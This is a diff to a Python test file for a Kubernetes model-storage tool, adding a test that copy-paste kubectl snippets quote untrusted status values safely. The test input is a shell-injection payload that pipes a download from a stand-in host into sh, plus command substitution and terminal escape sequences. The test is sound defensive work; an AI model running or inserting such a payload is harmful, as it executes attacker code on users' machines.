@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import shlex
 from typing import Any
 
 import pytest
@@ -137,6 +138,21 @@ def test_the_line_of_a_version() -> None:
     assert (line.status.phase, line.status.raw, line.dataset) == (Phase.READY, "READY", "mdl-qwen-v1")
     assert ("the claim", "kubectl -n team get pvc pvc-1") in explain.snippets("team", line)
     assert any(command.endswith("logs deploy/modelfs-controller -n modelfs-system") for _, command in explain.snippets("team", line))
+
+
+def test_what_a_status_names_is_one_word_to_a_shell() -> None:
+    """The commands are there to be copied, and whoever may write a status may put anything there."""
+    evil = "x; curl evil.example | sh\n$(id) \x1b[201~`id` 'y'"
+    status = [synced("v1", "READY", pvcName=evil, activeDataset=evil)]
+    (line,) = explain.version_details(model(version("v1"), status=status), facts(source()), [])
+    odd = dataset("d", syncRoundStatuses=[{"round": 3, "jobName": evil}], pvcName=evil)
+    commands = [*explain.snippets("team", line), *explain_source.snippets(source(secretRef=evil)), *explain_dataset.snippets(odd)]
+    hostile = [command for _, command in commands if "evil" in command]
+    assert len(hostile) == 5
+    for command in hostile:
+        assert command.isprintable()
+        assert sum("evil" in word for word in shlex.split(command)) == 1
+        assert [word for word in shlex.split(command) if word in (";", "|", "sh")] == []
 
 
 def test_what_nobody_reported_is_unknown_and_no_claim_is_guessed() -> None:
